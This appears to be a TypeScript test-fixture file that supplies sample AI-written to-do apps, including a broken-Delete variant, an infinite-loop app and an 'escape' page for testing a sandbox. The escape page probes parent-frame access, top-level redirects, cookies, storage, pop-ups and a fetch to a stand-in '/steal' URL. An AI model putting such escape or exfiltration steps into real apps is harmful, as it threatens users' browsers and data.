/**
 * Apps the tests write: a working to-do app (form, checkbox, Edit by prompt, Delete), the same
 * with a Delete that does nothing, and apps that try to get out of their frame.
 */

const TODO_SCRIPT = `
const form = document.querySelector('form');
const input = document.getElementById('new-task');
const list = document.getElementById('tasks');
function addTask(text) {
  const li = document.createElement('li');
  const box = document.createElement('input');
  box.type = 'checkbox';
  const label = document.createElement('span');
  label.textContent = text;
  box.addEventListener('change', () => li.classList.toggle('done', box.checked));
  const edit = document.createElement('button');
  edit.type = 'button';
  edit.textContent = 'Edit';
  edit.addEventListener('click', () => {
    const next = prompt('Edit task', label.textContent);
    if (next) label.textContent = next;
  });
  const del = document.createElement('button');
  del.type = 'button';
  del.textContent = 'Delete';
  del.addEventListener('click', () => { /*DELETE*/ li.remove(); });
  li.append(box, label, edit, del);
  list.append(li);
}
form.addEventListener('submit', (event) => {
  event.preventDefault();
  const text = input.value.trim();
  if (text) addTask(text);
  input.value = '';
});
`;

/** The app's script alone (unit tests run it on jsdom's document). */
export function todoScript(brokenDelete = false): string {
  return brokenDelete
    ? TODO_SCRIPT.replace('/*DELETE*/ li.remove();', '/* forgot */')
    : TODO_SCRIPT;
}

export const TODO_BODY = `<h1>My Tasks</h1>
<form><label for="new-task">New task</label> <input id="new-task" autocomplete="off"><button>Add</button></form>
<ul id="tasks"></ul>`;

/** A whole to-do app document as a model would write it. */
export function todoHtml(brokenDelete = false): string {
  return `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>My Tasks</title>
<style>.done span { text-decoration: line-through; }</style></head>
<body>
${TODO_BODY}
<script>${todoScript(brokenDelete)}</script>
</body>
</html>`;
}

/** An app that, on load, tries each way out it can and writes what happened into #out. */
export const ESCAPE_HTML = `<!DOCTYPE html><html><body><h1>Escape</h1><pre id="out"></pre>
<script>
const out = document.getElementById('out');
const note = (name, fn) => {
  try { const value = fn(); out.textContent += name + ': allowed ' + String(value) + '\\n'; }
  catch (error) { out.textContent += name + ': blocked ' + error.name + '\\n'; }
};
note('parent.document', () => parent.document.title);
note('top.location', () => { top.location = 'https://example.com/'; return 'set'; });
note('document.cookie', () => { document.cookie = 'a=1'; return document.cookie; });
note('localStorage', () => localStorage.setItem('x', '1'));
note('window.open', () => window.open('https://example.com/'));
fetch('https://example.com/steal?x=1').then(
  () => { out.textContent += 'fetch: allowed\\n'; },
  (error) => { out.textContent += 'fetch: blocked ' + error.name + '\\n'; },
);
</script></body></html>`;

/** An app whose Add button loops forever. */
export const LOOPING_HTML = `<!DOCTYPE html><html><body><h1>My Tasks</h1>
<label>New task <input id="t"></label><button id="add">Add</button><ul></ul>
<script>document.getElementById('add').addEventListener('click', () => { while (true) {} });</script>
</body></html>`;
